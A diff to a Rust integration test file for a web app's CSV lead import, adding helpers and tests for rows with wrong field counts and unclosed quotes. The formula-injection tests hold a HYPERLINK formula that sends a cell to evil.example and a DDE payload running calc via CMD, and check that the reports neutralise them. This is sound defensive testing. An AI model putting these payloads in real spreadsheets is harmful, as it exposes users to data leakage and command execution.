@@ -24,6 +24,27 @@ async fn report(app: &TestApp, import_id: i64) -> String {
     r.text().await.unwrap()
 }
 
+/// A lead file: a header and `rows` data rows, row `i` given by `row(i)`.
+fn lead_file(rows: usize, row: impl Fn(usize) -> String) -> Vec<u8> {
+    let mut csv = String::from("first_name,last_name,email\n");
+    for i in 0..rows {
+        csv.push_str(&row(i));
+        csv.push('\n');
+    }
+    csv.into_bytes()
+}
+
+/// Uploads `bytes` and starts importing them as first name, last name and e-mail.
+async fn import_file(app: &TestApp, bytes: Vec<u8>) -> i64 {
+    let html = app.upload_lead_csv("leads.csv", bytes).await.text().await.unwrap();
+    app.start_lead_import(
+        &input_value(&html, "upload"),
+        "leads.csv",
+        &["first_name", "last_name", "email"],
+    )
+    .await
+}
+
 // ---- 4. formula injection -------------------------------------------------------------------
 
 const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")";
@@ -71,18 +92,73 @@ async fn formula_cells_of_rejected_import_rows_are_reported_as_text() {
                Ana,Diaz,ana@example.com\n\
                =CMD|'/C calc'!A0,Li,not-an-email\n\
                Bo,+1+1,-2@\n";
-    let html = app.upload_lead_csv("leads.csv", csv.into()).await.text().await.unwrap();
-    let id = app
-        .start_lead_import(
-            &input_value(&html, "upload"),
-            "leads.csv",
-            &["first_name", "last_name", "email"],
-        )
-        .await;
+    let id = import_file(&app, csv.into()).await;
     let done = app.finished_import(id, 30).await;
     assert_eq!((done.created_count, done.rejected_count), (1, 2));
     let rows = cells(&report(&app, id).await);
     assert_eq!(rows.len(), 3, "{rows:?}");
     assert_eq!(rows[1][2..], ["'=CMD|'/C calc'!A0", "Li", "not-an-email"]);
     assert_eq!(rows[2][2..], ["Bo", "'+1+1", "'-2@"]);
+}
+
+// ---- 6. ragged rows -------------------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_1202_row_file_with_one_row_of_too_many_fields_imports_every_other_row() {
+    let app = spawn_app().await;
+    app.login_as(Role::Owner).await;
+    let file = lead_file(1_202, |i| match i {
+        1_100 => format!("Extra{i},Field,extra{i}@example.com,surplus"),
+        _ => format!("Person{i},Ragged,p{i}@ragged.example.com"),
+    });
+    let id = import_file(&app, file).await;
+    let done = app.finished_import(id, 60).await;
+    assert_eq!(
+        (
+            done.processed_rows,
+            done.created_count,
+            done.attached_count,
+            done.rejected_count
+        ),
+        (1_202, 1_201, 0, 1)
+    );
+    assert_eq!(app.count("leads"), 1_201);
+    let rows = cells(&report(&app, id).await);
+    assert_eq!(rows.len(), 2, "{rows:?}");
+    assert_eq!(rows[1][0], "1102", "the row's line in the file");
+    assert!(
+        rows[1][1].contains("This row has 4 cells but the header has 3"),
+        "{rows:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn short_long_and_unclosed_quote_rows_are_rejected_one_by_one() {
+    let app = spawn_app().await;
+    app.login_as(Role::Owner).await;
+    let file = "first_name,last_name,email\n\
+                Ana,Diaz,ana@example.com\n\
+                Bo,bo@example.com\n\
+                Cy,Xu,cy@example.com,extra\n\
+                Di,\"Fox,di@example.com\n\
+                Ed,Gray,ed@example.com\n\
+                Flo,Hu,flo@example.com\n";
+    let id = import_file(&app, file.into()).await;
+    let done = app.finished_import(id, 30).await;
+    assert_eq!(
+        (done.processed_rows, done.created_count, done.rejected_count),
+        (6, 3, 3)
+    );
+    let rows = cells(&report(&app, id).await);
+    let lines: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
+    assert_eq!(lines, ["3", "4", "5"], "{rows:?}");
+    assert!(rows[1][1].contains("has 2 cells but the header has 3"), "{rows:?}");
+    assert!(rows[2][1].contains("has 4 cells but the header has 3"), "{rows:?}");
+    assert!(rows[3][1].contains("quote (\") that is never closed"), "{rows:?}");
+    assert_eq!(rows[3][2], "Di,\"Fox,di@example.com", "the line as it is in the file");
+    assert_eq!(
+        app.count("contacts WHERE first_name IN ('Ed', 'Flo')"),
+        2,
+        "the rows after the quote are imported"
+    );
 }
